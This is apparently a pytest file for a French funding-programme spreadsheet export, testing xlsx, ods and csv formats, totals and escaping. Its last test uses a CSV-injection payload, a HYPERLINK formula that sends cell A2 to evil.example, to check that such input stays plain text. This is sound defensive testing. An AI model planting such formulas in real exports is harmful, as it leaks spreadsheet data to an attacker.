import csv
import io
import zipfile
from datetime import date, datetime

from odf import teletype
from odf.namespaces import OFFICENS
from odf.opendocument import load
from odf.table import Table, TableCell, TableRow
from openpyxl import load_workbook

from quartiers.programme.exports import HEADERS, programme_file
from quartiers.programme.selectors import programme

AMOUNT_COLUMNS = ("Montant demandé", "Montant proposé", "Montant accordé")


def _col(name):
    return HEADERS.index(name)


def test_xlsx_is_a_real_workbook_with_frozen_header_numbers_and_totals(prog_data):
    data = programme_file(programme(prog_data["call"]), "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == 34

    lines = rows[1:6]
    assert [r[0] for r in lines] == ["2027-001", "2027-001", "2027-001", "2027-002", "2027-003"]
    state = lines[2]
    assert state[_col("Financeur")] == "Préfecture du Gard (BOP 147)"
    assert state[_col("Montant demandé")] == 30000 and isinstance(state[_col("Montant demandé")], int | float)
    assert state[_col("Montant accordé")] == 25000
    assert state[_col("Date de la décision")] == datetime(2027, 3, 15)  # a real date cell
    assert state[_col("Convention nécessaire (plus de 23 000 €)")] == "oui"
    assert state[_col("Objectif confirmé")] == "Accueillir les adolescents le soir"
    assert lines[4][_col("Montant accordé")] is None  # not decided yet: empty, not 0
    assert lines[3][_col("Montant accordé")] == 0  # refused

    amount_cell = sheet.cell(row=4, column=_col("Montant demandé") + 1)
    assert amount_cell.data_type == "n" and "€" in amount_cell.number_format and "#,##0.00" in amount_cell.number_format
    assert sheet.cell(row=4, column=_col("Date de la décision") + 1).number_format == "dd/mm/yyyy"

    total = rows[6]
    assert total[0] == "Total"
    assert (total[_col("Montant demandé")], total[_col("Montant proposé")], total[_col("Montant accordé")]) == (
        50500, 35000, 35000)
    assert sheet.cell(row=7, column=1).font.bold
    per_funder = {r[0]: r[_col("Montant accordé")] for r in rows[7:]}
    assert per_funder == {"Total — Alès Agglomération": 8000, "Total — Commune d'Anduze": 2000,
                          "Total — Préfecture du Gard (BOP 147)": 25000}


def test_exports_are_reproducible(prog_data):
    data = programme(prog_data["call"])
    for fmt in ("xlsx", "ods", "csv"):
        assert programme_file(data, fmt) == programme_file(programme(prog_data["call"]), fmt)


def _ods_rows(data: bytes):
    doc = load(io.BytesIO(data))
    [sheet] = doc.spreadsheet.getElementsByType(Table)
    out = []
    for row in sheet.getElementsByType(TableRow):
        cells = []
        for cell in row.getElementsByType(TableCell):
            kind = cell.getAttrNS(OFFICENS, "value-type")
            value = {"float": cell.getAttrNS(OFFICENS, "value"),
                     "date": cell.getAttrNS(OFFICENS, "date-value")}.get(kind, teletype.extractText(cell))
            cells.append((kind, value))
        out.append(cells)
    return out


def test_ods_has_typed_cells_header_and_totals(prog_data):
    data = programme_file(programme(prog_data["call"]), "ods")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.namelist()[0] == "mimetype"
        assert archive.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    rows = _ods_rows(data)
    assert [v for _k, v in rows[0]] == HEADERS
    assert [r[0][1] for r in rows[1:]] == ["2027-001"] * 3 + ["2027-002", "2027-003", "Total",
                                                              "Total — Alès Agglomération", "Total — Commune d'Anduze",
                                                              "Total — Préfecture du Gard (BOP 147)"]
    state = rows[3]
    assert state[_col("Montant demandé")] == ("float", "30000.00")
    assert state[_col("Date de la décision")] == ("date", "2027-03-15")
    assert state[_col("Bénéficiaires")] == ("float", "40")
    assert state[_col("SIRET")] == ("string", "81324567700014")
    total = rows[6]
    assert [total[_col(c)] for c in AMOUNT_COLUMNS] == [("float", "50500.00"), ("float", "35000.00"),
                                                        ("float", "35000.00")]
    content = zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode()
    assert "30\u202f000,00\u00a0€" in content  # the displayed text is French


def test_csv_is_semicolon_separated_with_bom_and_decimal_comma(prog_data):
    data = programme_file(programme(prog_data["call"]), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADERS
    state = rows[3]
    assert state[_col("Montant demandé")] == "30000,00" and state[_col("Montant accordé")] == "25000,00"
    assert state[_col("Date de la décision")] == "15/03/2027"
    assert state[_col("Budget total de l'action")] == "60000,00"
    assert rows[5][_col("Montant accordé")] == ""
    assert rows[6][0] == "Total" and rows[6][_col("Montant demandé")] == "50500,00"
    assert len(rows) == 1 + 5 + 1 + 3


def test_filtered_export_has_only_that_funder(prog_data):
    data = programme_file(programme(prog_data["call"], funder=prog_data["agglo"]), "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert [r[_col("Financeur")] for r in rows[1:3]] == ["Alès Agglomération"] * 2
    assert rows[3][0] == "Total" and rows[3][_col("Montant demandé")] == "14500,00"
    assert len(rows) == 4  # one funder: no per-funder totals
    assert date(2027, 3, 15).strftime("%d/%m/%Y") == rows[1][_col("Date de la décision")]


def test_control_characters_and_markup_do_not_break_the_files(prog_data, prog_orgs):
    from quartiers.applications.models import Status
    from tests.programme.programme_helpers import make_application

    make_application(prog_data["call"], prog_orgs[0], 9, Status.SUBMITTED, title="Atelier\x0b<jeunes> & \"parents\"",
                     requests=[(prog_data["state"], "100")])
    data = programme(prog_data["call"])
    sheet = load_workbook(io.BytesIO(programme_file(data, "xlsx"))).active
    assert "Atelier <jeunes> & \"parents\"" in [r[_col("Action")] for r in sheet.iter_rows(values_only=True)]
    rows = _ods_rows(programme_file(data, "ods"))
    assert ("string", "Atelier <jeunes> & \"parents\"") in [r[_col("Action")] for r in rows]


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Cliquez")'


def test_typed_text_starting_like_a_formula_stays_text(prog_data, prog_orgs):
    from quartiers.applications.models import Status
    from quartiers.programme.exports import safe_text
    from tests.programme.programme_helpers import make_application

    prog_orgs[1].legal_name = "+33 Atelier"
    prog_orgs[1].save()
    make_application(prog_data["call"], prog_orgs[0], 9, Status.SUBMITTED, title=FORMULA,
                     requests=[(prog_data["state"], "100")])
    data = programme(prog_data["call"])

    sheet = load_workbook(io.BytesIO(programme_file(data, "xlsx"))).active
    cells = [row[_col("Action")] for row in sheet.iter_rows(min_row=2)]
    cell = next(c for c in cells if c.value == FORMULA)
    assert cell.data_type == "s"  # a string, not a live formula
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str))
    assert sheet.cell(row=4, column=_col("Montant demandé") + 1).data_type == "n"  # numbers stay numbers

    rows = list(csv.reader(io.StringIO(programme_file(data, "csv").decode("utf-8-sig")), delimiter=";"))
    assert "'" + FORMULA in [r[_col("Action")] for r in rows]
    assert "'+33 Atelier" in [r[_col("Structure")] for r in rows]
    assert "30000,00" in [r[_col("Montant demandé")] for r in rows]  # amounts untouched

    assert ("string", FORMULA) in [r[_col("Action")] for r in _ods_rows(programme_file(data, "ods"))]
    assert [safe_text(t) for t in ("-1", "@x", "\tx", "\rx", "a=b", "")] == ["'-1", "'@x", "'\tx", "'\rx", "a=b", ""]
